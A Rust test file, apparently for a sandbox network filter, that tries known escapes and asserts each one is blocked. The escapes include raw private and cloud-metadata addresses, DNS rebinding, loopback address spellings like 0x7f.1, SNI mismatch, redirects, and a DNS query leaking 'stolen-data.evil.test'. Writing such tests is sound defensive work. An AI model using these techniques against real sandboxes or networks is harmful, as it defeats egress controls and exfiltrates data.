//! Ways around a list of hosts. Each is tried on the host first, where it works, and then inside.

use serde_json::Value;

use crate::internet::Internet;

const WEB: &[&str] = &["--net", "filtered", "--allow-host", "web.test"];

/// A Python program with one argument that prints `reached` when it got through.
const CONNECT: &str = "\
import socket, sys
host, port = sys.argv[1].rsplit(':', 1)
s = socket.create_connection((host, int(port)), timeout=10)
s.sendall(b'GET / HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\nConnection: close\\r\\n\\r\\n')
answer = b''
while part := s.recv(4096):
    answer += part
print('reached' if b'hello' in answer or b'host' in answer[-4:] else 'stopped')
";

/// N1, N2, N6: addresses instead of names, also those of this machine, its network and its cloud.
#[test]
fn addresses_are_no_way_around_names() {
    let internet = Internet::new();
    for target in ["30.0.0.20:80", "10.9.8.7:80", "169.254.169.254:80", "30.0.0.10:80"] {
        let attempt = ["python3", "-c", CONNECT, target];
        assert_eq!(internet.control(&attempt).expect(0).text(), "reached\n", "{target}: the control");
        internet.forget_visits();
        let done = internet.run(WEB, &attempt);
        assert!(!done.text().contains("reached"), "{target}: {}", done.text());
        assert_eq!(internet.visits(), Vec::<Value>::new(), "{target}");
    }
}

/// N3, N5, B-S17: an allowed name that leads to this machine, its network or its cloud.
#[test]
fn an_allowed_name_leads_to_no_special_address() {
    let internet = Internet::new();
    for (host, address) in [("inside.test", "10.9.8.7"), ("meta.test", "169.254.169.254")] {
        let url = format!("http://{host}/");
        let attempt = ["curl", "-sS", "--max-time", "10", url.as_str()];
        internet.control(&attempt).expect(0);
        internet.forget_visits();
        for more in [&[][..], &["--noproxy", "*"]] {
            let command = [&attempt, more].concat();
            let done = internet.run(&["--allow-host", host], &command);
            assert!(!done.text().contains("hello"), "{host} {more:?}: {}", done.text());
            assert_eq!(internet.came_to(address), 0, "{host} {more:?}");
        }
    }
    internet.operator("[[host]]\nallow = [\"inside.test\"]\nallow_private_addresses = true\n");
    let local = ["curl", "-sS", "--max-time", "10", "http://inside.test/"];
    internet.run(&["--net", "filtered"], &local).expect(0);
    assert_eq!(internet.came_to("10.9.8.7"), 1, "unless a rule says that it may be local");
    let listener = internet.listen_on_host();
    for host in ["loop.test", "self.test"] {
        let target = format!("{host}:{}", listener.port);
        let attempt = ["python3", "-c", CONNECT, &target];
        internet.control(&attempt);
        assert!(listener.visitors() > 0, "{host}: the control");
        let before = listener.visitors();
        internet.run(&["--allow-host", host], &attempt);
        assert_eq!(listener.visitors(), before, "{host}");
    }
}

/// N4: a name that is somebody on the internet the first time and this machine ever after.
#[test]
fn rebinding_reaches_only_what_was_checked() {
    let internet = Internet::new();
    let listener = internet.listen_on_host();
    let get = |port: u16| {
        let url = format!("http://rebind.test:{port}/");
        internet.run(&["--allow-host", "rebind.test"], &["curl", "-sS", "--max-time", "10", &url])
    };
    assert_eq!(get(80).expect(0).text(), "hello from 30.0.0.77\n");
    get(listener.port);
    get(listener.port);
    assert_eq!(listener.visitors(), 0);
    let target = format!("rebind.test:{}", listener.port);
    internet.control(&["python3", "-c", CONNECT, &target]);
    assert_eq!(listener.visitors(), 1, "the control");
}

/// N7, N8: data in names of hosts. Not one query leaves, whatever asks and whomever.
#[test]
fn no_name_leaves_in_a_query() {
    const ASK: &str = "\
import socket, struct, sys
name, server = sys.argv[1], sys.argv[2]
query = b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
    try:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(2)
        s.connect((server, 53))
        s.send(query if kind == socket.SOCK_DGRAM else struct.pack('>H', len(query)) + query)
        s.recv(512)
    except OSError:
        pass
try:
    socket.getaddrinfo(name, 443)
except OSError:
    pass
";
    let internet = Internet::new();
    let attempt = ["python3", "-c", ASK, "stolen-data.evil.test", "30.0.0.53"];
    internet.control(&attempt).expect(0);
    assert!(internet.names_asked().len() >= 3, "the control");
    internet.forget_visits();
    for flags in [WEB, &["--allow-host", "evil.test"][..]] {
        internet.run(flags, &attempt).expect(0);
        assert_eq!(internet.names_asked(), Vec::<String>::new(), "{flags:?}");
    }
}

/// N3: what is no TCP has no way out, and a client of QUIC that falls back learns so at once, by an error: it waits for no answer.
#[test]
fn n3_datagrams_are_refused_at_once_so_that_clients_fall_back() {
    const QUIC: &str = "\
import socket, sys, urllib.request
host, families = sys.argv[1], sys.argv[2:]
for family in families:
    addresses = socket.getaddrinfo(host, 443, getattr(socket, family), socket.SOCK_DGRAM)
    s = socket.socket(addresses[0][0], socket.SOCK_DGRAM)
    # Longer than any test: whoever waits for it has hung.
    s.settimeout(1000)
    try:
        s.connect(addresses[0][4])
        s.send(b'initial')
        print(family, s.recv(100).decode())
    except PermissionError:
        print(family, 'refused')
print(urllib.request.urlopen('https://' + host + '/', timeout=20).read().decode(), end='')
";
    let internet = Internet::new();
    let control = internet.control(&["python3", "-c", QUIC, "web.test", "AF_INET"]).expect(0);
    assert_eq!(control.text(), "AF_INET initial\nhello from 30.0.0.10\n", "the control");
    internet.forget_visits();
    let done = internet.run(WEB, &["python3", "-c", QUIC, "web.test", "AF_INET", "AF_INET6"]).expect(0);
    assert_eq!(done.text(), "AF_INET refused\nAF_INET6 refused\nhello from 30.0.0.10\n");
    let datagrams = internet.visits().iter().filter(|visit| visit["what"] == "udp").count();
    assert_eq!(datagrams, 0, "{:?}", internet.visits());
}

/// N10, B-C14: CONNECT to the allowed host, TLS for another one behind the same address.
#[test]
fn the_name_in_tls_is_the_name_that_was_allowed() {
    let internet = Internet::new();
    let attempt = [
        "curl",
        "-sS",
        "--max-time",
        "10",
        "--connect-to",
        "other.test:443:web.test:443",
        "https://other.test/",
    ];
    internet.control(&attempt).expect(0);
    internet.forget_visits();
    for more in [&[][..], &["--noproxy", "*"]] {
        let done = internet.run(WEB, &[&attempt, more].concat());
        assert_ne!(done.code, Some(0), "{more:?}: {}", done.text());
        assert_eq!(internet.came_to("30.0.0.10") + internet.came_to("30.0.0.20"), 0, "{more:?}");
    }
}

/// N11: a redirect is a new flow.
#[test]
fn a_redirect_is_judged_again() {
    let internet = Internet::new();
    let attempt = ["curl", "-sSL", "--max-time", "10", "https://web.test/redirect/https:/other.test/"];
    assert_eq!(internet.control(&attempt).expect(0).text(), "hello from 30.0.0.20\n");
    internet.forget_visits();
    let done = internet.run(WEB, &attempt);
    assert_ne!(done.code, Some(0));
    assert_eq!((internet.came_to("30.0.0.10"), internet.came_to("30.0.0.20")), (1, 0));
}

/// Spellings of addresses that only some programs read as such.
#[test]
fn unusual_spellings_of_addresses_are_refused() {
    let internet = Internet::new();
    let listener = internet.listen_on_host();
    for host in ["127.1", "0x7f.1", "2130706433", "017700000001", "[::ffff:127.0.0.1]", "0"] {
        let url = format!("http://{host}:{}/", listener.port);
        internet.control(&["curl", "-sS", "--max-time", "2", &url]);
        let reached = listener.visitors();
        for more in [&["--proxy", "http://127.0.0.1:3128"][..], &["--proxy", "socks5h://127.0.0.1:3128"]] {
            let command =
                [&["curl", "-sS", "--max-time", "5", "--noproxy", "nothing", &url][..], more].concat();
            internet.run(WEB, &command);
            assert_eq!(listener.visitors(), reached, "{host} {more:?}");
        }
    }
    assert!(listener.visitors() > 0, "the control");
}

/// The doors are inside alone: nobody else on the machine reaches the proxy of a session.
#[test]
fn nobody_on_the_host_reaches_the_proxy() {
    let internet = Internet::new();
    let script = "touch up; while ! [ -e go ]; do sleep 0.05; done; curl -sS -x http://127.0.0.1:3128 https://web.test/";
    let child = internet.start(WEB, script);
    crate::testkit::eventually("it runs", || internet.world.workspace.join("up").exists());
    internet
        .control(&["curl", "-sS", "--max-time", "5", "-x", "http://127.0.0.1:3128", "https://web.test/"])
        .expect(7);
    internet.world.write("go", "");
    assert_eq!(crate::testkit::collect(child).expect(0).text(), "hello from 30.0.0.10\n");
}
